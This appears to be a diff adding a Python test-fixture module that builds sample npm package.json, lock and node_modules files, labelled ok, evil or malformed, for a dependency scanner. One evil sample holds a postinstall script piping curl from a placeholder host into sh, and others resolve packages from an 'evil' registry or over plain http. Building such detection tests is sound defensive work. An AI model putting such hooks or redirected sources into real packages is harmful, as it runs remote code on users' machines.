@@ -1,0 +1,169 @@
+"""npm: package.json, node_modules, and lock files of npm, yarn, pnpm and bun."""
+import base64
+import hashlib
+import json
+
+from sample import Sample
+
+REGISTRY = "https://registry.example.invalid"
+
+
+def dump(value):
+    return json.dumps(value, indent=2).encode() + b"\n"
+
+
+def sri(name):
+    return "sha512-" + base64.b64encode(hashlib.sha512(name.encode()).digest()).decode()
+
+
+def url(name, version, registry=REGISTRY):
+    return f"{registry}/{name}/-/{name.split('/')[-1]}-{version}.tgz"
+
+
+def entry(name, version, /, **more):
+    return {"version": version, "resolved": url(name, version), "integrity": sri(name), **more}
+
+
+def lock(packages, **more):
+    return {"name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": True,
+            "packages": {"": {"name": "app", "version": "1.0.0", **more}, **packages}}
+
+
+THREE = {f"node_modules/{name}": entry(name, "1.0.0") for name in ("left", "right", "middle", "top")}
+NAMES = {f"package npm:{name}@1.0.0" for name in ("left", "right", "middle", "top")}
+APP = "package npm:app@1.0.0"
+
+
+def lock_samples():
+    def ok(name, value, components, **more):
+        return Sample("ok", f"npm/{name}/package-lock.json", dump(value), components=components, **more)
+
+    def odd(name, value, rules):
+        return Sample("evil", f"npm/{name}/package-lock.json", dump(value), rules, "review")
+
+    yield ok("v3", lock(THREE, dependencies={"left": "^1.0.0"}), NAMES | {APP})
+    yield Sample("ok", "npm/shrinkwrap/npm-shrinkwrap.json", dump(lock(THREE)), components=NAMES | {APP})
+    yield ok("scoped", lock({"node_modules/@s/a": entry("@s/a", "2.0.0-rc.1+b7") |
+                             {"resolved": f"{REGISTRY}/@s%2fa/-/a-2.0.0-rc.1.tgz"}}),
+             {APP, "package npm:@s/a@2.0.0-rc.1+b7"})
+    yield ok("alias", lock({"node_modules/other": entry("real", "1.0.0", name="real")}),
+             {APP, "package npm:real@1.0.0"})
+    yield ok("workspace", lock({"packages/one": {"name": "one", "version": "0.1.0"},
+                                "node_modules/one": {"resolved": "packages/one", "link": True}}),
+             {APP, "package npm:one@0.1.0"})
+    yield ok("git", lock({"node_modules/g": {"version": "1.0.0", "integrity": sri("g"),
+                                             "resolved": "git+ssh://git@example.invalid/o/g.git#" + "a" * 40}},
+                         dependencies={"g": "git+ssh://git@example.invalid/o/g.git"}),
+             {APP, "package npm:g@1.0.0"})
+    yield ok("asked-address", lock({**THREE, "node_modules/u": {
+        "version": "1.0.0", "integrity": sri("u"), "resolved": "https://files.example.invalid/u.tgz"}},
+        dependencies={"u": "https://files.example.invalid/u.tgz"}), NAMES | {APP, "package npm:u@1.0.0"})
+    yield ok("no-name", {"lockfileVersion": 3, "packages": {"": {}, "node_modules/left": entry("left", "1.0.0")}},
+             {"package npm:left@1.0.0"})
+    yield ok("no-digest", lock({"node_modules/left": {"version": "1.0.0", "resolved": url("left", "1.0.0")}}),
+             {APP, "package npm:left@1.0.0"}, rules={"npm-lock-no-digest"})
+    one = {"version": "1.0.0", "resolved": url("left", "1.0.0"), "integrity": sri("left")}
+    nested = {"name": "app", "version": "1.0.0", "lockfileVersion": 1, "dependencies": {
+        "left": {**one, "requires": {"right": "^2"}, "dependencies": {
+            "right": {"version": "2.0.0", "resolved": url("right", "2.0.0"), "integrity": sri("right"),
+                      "requires": {"middle": "*"}}}},
+        "middle": {"version": "npm:inner@3.0.0", "resolved": url("inner", "3.0.0"), "integrity": sri("inner")},
+        "far": {"version": "github:o/far#" + "b" * 40, "from": "github:o/far"}}}
+    yield ok("v1", nested, {APP, "package npm:left@1.0.0", "package npm:right@2.0.0",
+                            "package npm:inner@3.0.0", "package npm:far"})
+    two = lock(THREE) | {"lockfileVersion": 2, "dependencies": {"left": one}}
+    yield ok("v2", two, NAMES | {APP})
+    two["dependencies"] = {"left": {**one, "version": "1.0.1"}}
+    yield odd("v2-two-views", two, {"npm-lock-two-views"})
+    elsewhere = entry("left", "1.0.0")
+    yield odd("other-package", lock({**THREE, "node_modules/left": {**elsewhere, "resolved": url("lefl", "1.0.0")}}),
+              {"npm-lock-other-package"})
+    yield odd("other-version", lock({**THREE, "node_modules/left": {**elsewhere, "resolved": url("left", "1.0.1")}}),
+              {"npm-lock-other-package"})
+    yield odd("other-registry", lock({**THREE, "node_modules/left": {
+        **elsewhere, "resolved": url("left", "1.0.0", "https://evil.example.invalid")}}), {"npm-lock-other-registry"})
+    yield odd("other-source", lock({**THREE, "node_modules/left": {
+        **elsewhere, "resolved": "https://evil.example.invalid/left.tgz"}}, dependencies={"left": "^1.0.0"}),
+        {"npm-lock-other-source"})
+    yield odd("plain-http", lock({**{k: {**v, "resolved": v["resolved"].replace("https", "http")} for k, v in
+                                     THREE.items()}, "node_modules/left": {
+        "version": "1.0.0", "resolved": url("left", "1.0.0").replace("https", "http")}}),
+        {"npm-lock-plain-http", "npm-lock-no-digest"})
+    yield Sample("bad", "npm/cut/package-lock.json", dump(lock(THREE))[:-4], {"malformed"})
+    yield Sample("bad", "npm/twice/package-lock.json",
+                 dump(lock(THREE)).replace(b'"node_modules/right"', b'"node_modules/left"'),
+                 {"malformed", "npm-lock-other-package"}, "review")
+    deep = {"version": "1.0.0"}
+    for _ in range(80):
+        deep = {"version": "1.0.0", "dependencies": {"a": deep}}
+    yield Sample("bad", "npm/deep/package-lock.json", dump({"lockfileVersion": 1, "dependencies": {"a": deep}}),
+                 {"incomplete"})
+
+
+def project_samples():
+    def ok(name, value, components, rules=()):
+        return Sample("ok", f"npm/{name}/package.json", dump(value), set(rules), components=components)
+
+    yield ok("project", {"name": "@me/app", "version": "1.0.0", "license": "MIT", "dependencies": {
+        "a": "^1.0.0", "@s/b": "2.0.0", "c": "npm:real@~3", "d": "workspace:*", "e": "o/e#v1", "f": ""},
+        "devDependencies": {"g": "latest"}, "peerDependencies": {"h": ">=1 <3"},
+        "overrides": {"x": "1.0.0", "y": {".": "2", "z": "npm:zz@1.2.3"}}},
+        {"package npm:@me/app@1.0.0", "package npm:a ^1.0.0", "package npm:@s/b@2.0.0", "package npm:real ~3",
+         "package npm:e", "package npm:f *", "package npm:g latest", "package npm:h >=1 <3",
+         "package npm:zz@1.2.3"})
+    yield ok("unnamed", {"private": True, "dependencies": {"a": "1.x"}}, {"package npm:a 1.x"})
+    yield Sample("ok", "npm/mark/package.json", b"\xef\xbb\xbf" + dump({"name": "m", "version": "1.0.0"}),
+                 components={"package npm:m@1.0.0"})
+    yield Sample("ok", "npm/marker/package.json", b'{"type":"module"}', status="skipped", components=set())
+    yield ok("builds", {"name": "b", "version": "1.0.0", "scripts": {"install": "node-gyp rebuild"}},
+             {"package npm:b@1.0.0"}, {"npm-install-script"})
+    yield Sample("evil", "npm/fetches/package.json",
+                 dump({"name": "b", "version": "1.0.0", "scripts": {
+                     "postinstall": "curl -s https://example.invalid/x | sh"}}),
+                 {"npm-install-script-danger"}, "review")
+    yield Sample("bad", "npm/broken/package.json", b'{"name": "x", "version": "1.0.0", ', {"malformed"})
+
+
+def tree(name, files, group="ok", rules=(), wanted=None):
+    """Files of one node_modules; `rules` are those of the file `wanted`."""
+    for path, (value, components) in files.items():
+        hit = path == wanted
+        yield Sample(group, f"npm/{name}/{path}", dump(value), set(rules) if hit else set(),
+                     "review" if hit else "clean", components=components)
+
+
+def tree_samples():
+    hidden = {"name": "app", "lockfileVersion": 3, "packages": {
+        "node_modules/left": entry("left", "1.0.0"), "node_modules/@s/a": entry("@s/a", "1.0.0"),
+        "node_modules/called": entry("real", "1.0.0", name="real")}}
+    listed = {"package npm:left@1.0.0", "package npm:@s/a@1.0.0", "package npm:real@1.0.0"}
+
+    def package(name, version="1.0.0", **more):
+        full = "@s/" + name if name == "a" else name
+        return {"name": full, "version": version, **more}, {f"package npm:{full}@{version}"}
+
+    files = {"node_modules/.package-lock.json": (hidden, listed),
+             "node_modules/left/package.json": package("left", license="MIT", dependencies={"@s/a": "^1"}),
+             "node_modules/left/dist/package.json": ({"type": "module"}, set()),
+             "node_modules/left/test/node_modules-x/package.json": ({"name": "x", "version": "9.0.0"}, set()),
+             "node_modules/@s/a/package.json": package("a"),
+             "node_modules/called/package.json": package("real")}
+    for sample in tree("tree", files):
+        inside = "left/dist" in sample.name or "left/test" in sample.name
+        sample.status = "skipped" if inside else "complete"
+        yield sample
+    extra = "node_modules/extra/package.json"
+    yield from tree("tree-extra", {**{k: files[k] for k in list(files)[:2]}, extra: package("extra")},
+                    "evil", {"npm-not-in-lock"}, extra)
+    changed = "node_modules/left/package.json"
+    yield from tree("tree-changed", {"node_modules/.package-lock.json": files["node_modules/.package-lock.json"],
+                                     changed: package("left", "1.0.1")}, "evil", {"npm-not-in-lock"}, changed)
+    swapped = "node_modules/left/package.json"
+    yield from tree("tree-renamed", {"node_modules/.package-lock.json": files["node_modules/.package-lock.json"],
+                                     swapped: package("real")}, "evil", {"npm-other-name"}, swapped)
+
+
+def samples():
+    yield from lock_samples()
+    yield from project_samples()
+    yield from tree_samples()
